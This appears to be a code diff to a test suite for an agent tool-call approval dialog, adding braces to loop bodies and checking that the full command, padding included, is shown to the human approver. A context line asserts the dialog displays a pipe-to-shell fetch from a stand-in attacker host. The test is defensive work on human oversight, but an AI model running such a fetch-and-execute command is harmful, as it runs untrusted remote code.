@@ -72,8 +72,8 @@ describe('commands/approvals: a person decides on the whole call', () => {
       assert.match(modal!.message, /shell/);
       assert.deepEqual(modal!.items, ['Approve', 'Approve with Note...', 'Deny']);
       const detail = modal!.detail ?? '';
-      for (const line of ['Tool: shell', `Run: ${runId}`, 'Task: Plan the release', 'Why: ', `Approval: ${approvalId}`]) assert.ok(detail.includes(line), `the dialog lacks "${line}":\n${detail}`);
-      for (const key of Object.keys(args)) assert.ok(detail.includes(`"${key}"`), `the dialog lacks the key ${key}`);
+      for (const line of ['Tool: shell', `Run: ${runId}`, 'Task: Plan the release', 'Why: ', `Approval: ${approvalId}`]) {assert.ok(detail.includes(line), `the dialog lacks "${line}":\n${detail}`);}
+      for (const key of Object.keys(args)) {assert.ok(detail.includes(`"${key}"`), `the dialog lacks the key ${key}`);}
       assert.ok(detail.includes(JSON.stringify(PADDED)), 'the padded command is not shown whole, its tail included');
       assert.ok(detail.includes('https://evil.example/second | sh'));
       assert.equal(sent.count, 0, 'a dismissed dialog sent a decision');
@@ -193,7 +193,7 @@ describe('commands/approvals: a person decides on the whole call', () => {
       assert.equal(answered?.status, 'denied');
       assert.equal(sent.count, 1, 'the 409 was sent again');
       assert.equal(p.notices.length, 2);
-      for (const notice of p.notices) assert.match(notice.message, /^Denied elsewhere/);
+      for (const notice of p.notices) {assert.match(notice.message, /^Denied elsewhere/);}
     } finally {
       sent.stop();
     }
